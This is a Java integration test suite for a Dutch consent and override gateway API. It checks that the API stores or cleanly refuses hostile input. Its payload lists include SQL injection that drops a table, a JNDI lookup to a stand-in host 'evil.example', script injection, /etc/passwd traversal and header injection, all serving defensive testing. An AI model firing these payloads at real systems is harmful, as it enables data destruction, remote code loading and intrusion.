package nl.deelpoort.gateway.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Function;
import nl.deelpoort.gateway.support.Api;
import nl.deelpoort.gateway.support.IntegrationTest;
import nl.deelpoort.gateway.support.TestBsns;
import nl.deelpoort.policy.Framework;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import tools.jackson.databind.JsonNode;

/**
 * Hostile input where the API takes text, ids and bodies: injection strings in every free-text
 * field of the grounds, hostile path ids on every endpoint that takes one, and server-set fields
 * sent by the client (mass assignment). Each string is either stored verbatim and read back equal,
 * or refused with a 422 naming the field; never a 5xx, never a second row, never a changed table.
 * The tally is written to {@code target/reliability/input-attacks.tsv} (docs/reliability.md).
 */
class InputAttacksIT extends IntegrationTest {

    private static final String CONSENTS = "/api/v1/consents";
    private static final String OVERRIDES = "/api/v1/overrides";

    /** SQL, JSON, template, script, traversal and encoding tricks a free-text field may meet. */
    static final List<String> HOSTILE_TEXT = List.of(
            "' OR '1'='1",
            "x'; DROP TABLE log_entry; --",
            "\\'; SELECT pg_sleep(5); --",
            "\"}, \"status\": \"ENDED\", \"x\": {\"",
            "{\"$ne\": null}",
            "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}",
            "#{7*7} [[${7*7}]] {{7*7}}",
            "../../../../etc/passwd",
            "%00%27%22",
            "nul \u0000 byte",
            "bell \u0007 and escape \u001b[31m",
            "right-to-left \u202e override",
            "zero\u200bwidth",
            "emoji 👩‍👧 and 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
            "line\r\nInjected-Header: yes");

    /** Ids no endpoint should take for real ones. */
    static final List<String> HOSTILE_IDS = List.of(
            "..%2F..%2Fadmin",
            "%2e%2e",
            "..;",
            "1%27%20OR%20%271%27%3D%271",
            "00000000-0000-0000-0000-000000000000",
            "-1",
            "99999999999999999999999",
            "%00",
            "1;select",
            "%D9%A1",
            "%EF%BC%91",
            "0x1",
            "1e3");

    private static final Tally TALLY = new Tally();

    @Autowired
    JdbcTemplate jdbc;

    @Test
    void injectionStringsInTheFreeTextOfAConsentAreStoredVerbatimOrNamedNeverA5xx() {
        String carla = tokens().user("carla.cmd-waalre");
        for (String text : HOSTILE_TEXT) {
            long rowsBefore = jdbc.queryForObject("SELECT count(*) FROM consent", Long.class);
            Map<String, Object> body = consent(TestBsns.freshBsn());
            body.put("evidenceReference", text);
            body.put("givenBy", List.of(Map.of("role", "SUBJECT", "name", text)));
            Api.Response r = api().post(CONSENTS, carla, Api.json(body));
            JsonNode stored = storedOrNamed("consent free text", r, "evidenceReference", "givenBy[0].name");
            long rowsAfter = jdbc.queryForObject("SELECT count(*) FROM consent", Long.class);
            if (stored == null) {
                assertThat(rowsAfter).as("a refused consent writes nothing").isEqualTo(rowsBefore);
                continue;
            }
            assertThat(rowsAfter).isEqualTo(rowsBefore + 1);
            JsonNode read = api().get(CONSENTS + "/" + stored.path("id").asString(), carla)
                    .json();
            assertThat(read.path("evidenceReference").asString()).isEqualTo(text);
            assertThat(read.path("givenBy").get(0).path("name").asString()).isEqualTo(text);
            assertThat(read.path("status").asString()).isEqualTo("ACTIVE");

            Api.Response withdrawn = api().post(
                            CONSENTS + "/" + stored.path("id").asString() + "/withdrawal",
                            carla,
                            Api.json(Map.of("reason", text, "withdrawnBy", Map.of("role", "SUBJECT"))));
            storedOrNamed("withdrawal reason", withdrawn, "reason");
        }
        assertThat(jdbc.queryForObject("SELECT to_regclass('log_entry') IS NOT NULL", Boolean.class))
                .isTrue();
    }

    @Test
    void injectionStringsInAnOverridesJustificationAndAReviewNoteAreStoredVerbatimOrNamed() {
        String anna = tokens().user("anna.plusteam");
        for (String text : HOSTILE_TEXT) {
            Map<String, Object> body = override(TestBsns.freshBsn());
            body.put("justification", "Acute zorg over de veiligheid van de kinderen: " + text);
            Api.Response r = api().post(OVERRIDES, anna, Api.json(body));
            JsonNode stored = storedOrNamed("override justification", r, "justification");
            if (stored == null) {
                continue;
            }
            assertThat(stored.path("status").asString()).isEqualTo("ACTIVE");
            Api.Response reviewed = api().post(
                            OVERRIDES + "/" + stored.path("id").asString() + "/review",
                            tokens().user("hanna.fg"),
                            Api.json(Map.of("verdict", "JUSTIFIED", "note", text)));
            storedOrNamed("review note", reviewed, "note");
        }
    }

    @Test
    void hostilePathIdsAreA4xxProblemOnEveryEndpointThatTakesAnId() {
        String carla = tokens().user("carla.cmd-waalre");
        String anna = tokens().user("anna.plusteam");
        String gert = tokens().user("gert.fg");
        List<Function<String, Api.Response>> endpoints = List.of(
                id -> api().get("/api/v1/transfers/" + id, anna),
                id -> api().get(CONSENTS + "/" + id, carla),
                id -> api().post(
                                CONSENTS + "/" + id + "/withdrawal",
                                carla,
                                "{\"reason\":\"x\",\"withdrawnBy\":{\"role\":\"SUBJECT\"}}"),
                id -> api().post(OVERRIDES + "/" + id + "/end", anna, ""),
                id -> api().post(OVERRIDES + "/" + id + "/review", gert, "{\"verdict\":\"JUSTIFIED\"}"),
                id -> api().post("/api/v1/measures/" + id + "/end", tokens().user("eva.gi"), ""),
                id -> api().get("/api/v1/log/entries/" + id, gert),
                id -> api().post("/api/v1/me/consents/" + id + "/withdrawal", tokens().user("jan.inwoner"), ""));
        for (String id : HOSTILE_IDS) {
            for (int e = 0; e < endpoints.size(); e++) {
                Api.Response r = endpoints.get(e).apply(id);
                TALLY.count("hostile path ids", r.status() < 400 || r.status() >= 500);
                assertThat(r.status())
                        .as("endpoint %d with id %s: %s", e, id, r.body())
                        .isBetween(400, 499);
                if (!r.body().isEmpty()) {
                    assertThat(r.contentType())
                            .as("endpoint %d with id %s", e, id)
                            .startsWith("application/problem+json");
                }
            }
        }
    }

    /** Server-set fields in a request body are ignored: the server decides status, times, ids and reviews. */
    @Test
    void serverSetFieldsSentByTheClientAreIgnored() {
        String carla = tokens().user("carla.cmd-waalre");
        UUID chosen = UUID.randomUUID();
        Map<String, Object> consent = consent(TestBsns.freshBsn());
        consent.put("id", chosen.toString());
        consent.put("status", "WITHDRAWN");
        consent.put("recordedAt", "2000-01-01T00:00:00Z");
        consent.put("recordedBy", "someone-else");
        consent.put("organisation", "veilig-thuis");
        consent.put("disclosureId", 1);
        Instant before = Instant.now();
        JsonNode c = api().post(CONSENTS, carla, Api.json(consent)).json();
        String id = c.path("id").asString();
        String read = api().get(CONSENTS + "/" + id, carla).json().toString();
        Map<String, Boolean> ignored = new LinkedHashMap<>();
        ignored.put(
                "consent id",
                !id.equals(chosen.toString())
                        && jdbc.queryForObject("SELECT count(*) FROM consent WHERE id = ?", Long.class, chosen) == 0);
        ignored.put("consent status", c.path("status").asString().equals("ACTIVE"));
        ignored.put("consent recordedAt", !read.contains("2000-01-01"));
        ignored.put("consent recordedBy", !read.contains("someone-else"));
        ignored.put("consent organisation", !read.contains("veilig-thuis"));
        ignored.put("consent disclosureId", c.path("disclosureId").asLong() > 1);

        Map<String, Object> override = override(TestBsns.freshBsn());
        override.put("status", "ENDED");
        override.put("reviewStatus", "JUSTIFIED");
        override.put("expiresAt", "2099-01-01T00:00:00Z");
        override.put("declaredByUser", "someone-else");
        override.put("id", chosen.toString());
        JsonNode o = api().post(OVERRIDES, tokens().user("anna.plusteam"), Api.json(override))
                .json();
        ignored.put("override status", o.path("status").asString().equals("ACTIVE"));
        ignored.put("override reviewStatus", o.path("reviewStatus").asString().equals("PENDING_REVIEW"));
        ignored.put("override id", !o.path("id").asString().equals(chosen.toString()));
        // The framework's duration for the risk level (at most 72 hours), not the client's date.
        ignored.put(
                "override expiresAt",
                Instant.parse(o.path("expiresAt").asString()).isBefore(before.plus(Duration.ofDays(14))));
        ignored.put("override declaredByUser", !o.toString().contains("someone-else"));
        ignored.forEach((field, wasIgnored) -> TALLY.count("mass assignment", !wasIgnored));
        assertThat(ignored).as("server-set fields the client sent").doesNotContainValue(false);
    }

    @AfterAll
    static void writeTally() throws IOException {
        TALLY.write("input-attacks.tsv", "bypasses_or_5xx");
    }

    /**
     * The answer to a body with hostile text: 201/200 with the stored object, or 422 naming one of
     * {@code fields}; anything else fails. Counted under {@code attack}.
     */
    private static JsonNode storedOrNamed(String attack, Api.Response r, String... fields) {
        TALLY.count(attack, r.status() >= 500);
        assertThat(r.status()).as(attack + ": " + r.body()).isIn(200, 201, 422);
        if (r.status() == 422) {
            List<String> named = new ArrayList<>();
            r.json()
                    .path("invalidFields")
                    .forEach(e -> named.add(e.path("field").asString()));
            assertThat(named)
                    .as(attack + ": " + r.body())
                    .isNotEmpty()
                    .allMatch(f -> List.of(fields).contains(f));
            return null;
        }
        return r.json();
    }

    private static Map<String, Object> consent(String bsn) {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put(
                "subject",
                Map.of(
                        "bsn",
                        bsn,
                        "birthDate",
                        LocalDate.now(Framework.ZONE).minusYears(40).toString()));
        body.put("givenBy", List.of(Map.of("role", "SUBJECT")));
        body.put("purposes", List.of("ESCALATION"));
        body.put("recipients", List.of("plusteam"));
        body.put("holders", List.of("gemeente-waalre"));
        body.put("categories", List.of("BSN", "PERSONALIA", "HOUSEHOLD", "CASE_NOTES"));
        body.put("method", "WRITTEN");
        body.put("evidenceReference", "scan-2026-0042");
        return body;
    }

    private static Map<String, Object> override(String bsn) {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("subject", Map.of("bsn", bsn));
        body.put("purpose", "MDO");
        body.put("recipients", List.of("gemeente-waalre"));
        body.put("categories", List.of("BSN", "CASE_NOTES"));
        body.put("riskLevel", "MIDDEN");
        body.put("justification", "Acute zorg over de veiligheid van de kinderen.");
        return body;
    }
}
